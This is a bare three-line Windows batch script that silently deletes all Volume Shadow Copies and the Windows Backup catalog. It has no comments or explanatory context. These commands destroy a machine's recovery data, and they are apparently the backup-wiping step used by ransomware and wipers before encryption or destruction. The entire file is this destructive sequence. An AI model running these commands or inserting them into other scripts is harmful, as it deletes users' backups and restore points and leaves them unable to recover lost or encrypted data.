@echo off
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
